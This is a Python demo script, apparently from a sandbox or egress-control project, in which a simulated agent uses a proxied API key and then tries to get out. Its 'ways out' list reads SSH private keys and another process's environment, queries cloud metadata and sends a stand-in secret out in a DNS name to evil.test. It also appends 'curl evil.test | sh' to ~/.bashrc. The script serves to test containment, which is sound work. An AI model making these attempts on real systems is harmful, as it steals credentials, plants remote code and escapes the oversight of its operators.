"""A small agent: it does its work, with a key that it does not hold, and then tries to get out. Run by `make demo`."""

from __future__ import annotations

import os
import socket
import sys
import urllib.error
import urllib.request
from collections.abc import Callable
from pathlib import Path

ALLOWED, KEYED, EVIL = "docs.test", "api.test", "evil.test"
STOLEN = "c2VjcmV0"  # what a program that found a secret would carry out in a name
WIDTH = 29


def fetch(host: str, port: int = 80, *, scheme: str = "http", use_proxy: bool = True, key: str = "") -> str:
    """An ordinary HTTP client; with `use_proxy=False` one that has never heard of proxy variables."""
    handlers = [] if use_proxy else [urllib.request.ProxyHandler({})]
    headers = {"Authorization": f"Bearer {key}"} if key else {}
    request = urllib.request.Request(f"{scheme}://{host}:{port}/", headers=headers)
    try:
        with urllib.request.build_opener(*handlers).open(request, timeout=10) as answer:
            return f"{answer.status} {answer.read().decode().strip()}"
    except urllib.error.HTTPError as error:
        return f"{error.code} {error.read().decode().partition(';')[0].strip()}"
    except OSError as error:
        return _reason(error)


def look_up(name: str) -> str:
    try:
        return socket.gethostbyname(name)
    except OSError as error:
        return _reason(error)


def connect(address: str, port: int) -> str:
    """A plain connection, as any language makes it."""
    try:
        with socket.create_connection((address, port), timeout=5) as connection:
            connection.sendall(b"hello\n")
            return "an answer" if connection.recv(100) else "closed"
    except OSError as error:
        return _reason(error)


def send_datagram(address: str, port: int) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        try:
            sender.sendto(STOLEN.encode(), (address, port))
        except OSError as error:
            return _reason(error)
    return "sent"


def read_file(path: Path) -> str:
    try:
        return f"{len(path.read_bytes())} bytes"
    except OSError as error:
        return _reason(error)


def append_to(path: Path) -> str:
    try:
        with path.open("a") as file:
            file.write("curl evil.test | sh\n")
    except OSError as error:
        return _reason(error)
    return "written"


def _reason(error: OSError) -> str:
    inner = getattr(error, "reason", error)
    return str(getattr(inner, "strerror", None) or inner)


def attempts(port: int, tls_port: int, watched: str) -> dict[str, list[tuple[str, Callable[[], str]]]]:
    key, home = os.environ["API_KEY"], Path.home()
    return {
        "allowed and denied": [
            ("a host on the list", lambda: fetch(ALLOWED, port)),
            ("the same, no proxy settings", lambda: fetch(ALLOWED, port, use_proxy=False)),
            ("another host", lambda: fetch(EVIL, port)),
            ("the same, no proxy settings", lambda: fetch(EVIL, port, use_proxy=False)),
        ],
        "a key that it never holds": [
            ("the key, as it finds it", lambda: key),
            ("a call with the key", lambda: fetch(KEYED, tls_port, scheme="https", key=key)),
            ("the key to another host", lambda: fetch(ALLOWED, port, key=key)),
        ],
        "ways out": [
            ("a bare address", lambda: connect("203.0.113.9", 443)),
            ("IPv6", lambda: connect("2001:db8::1", 443)),
            ("UDP, as QUIC uses it", lambda: send_datagram("203.0.113.9", 443)),
            ("a secret in a DNS name", lambda: look_up(f"{STOLEN}.{EVIL}")),
            ("this machine's own servers", lambda: connect("127.0.0.1", port)),
            ("the cloud's metadata", lambda: fetch("169.254.169.254", use_proxy=False)),
            ("the caller's environment", lambda: read_file(Path(f"/proc/{watched}/environ"))),
            ("~/.ssh/id_ed25519", lambda: read_file(home / ".ssh" / "id_ed25519")),
            ("a line in ~/.bashrc", lambda: append_to(home / ".bashrc")),
        ],
    }


def main() -> None:
    port, tls_port, watched = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    for title, group in attempts(port, tls_port, watched).items():
        print(title)
        for what, attempt in group:
            print(f"  {what:{WIDTH}}{attempt()}", flush=True)


if __name__ == "__main__":
    main()
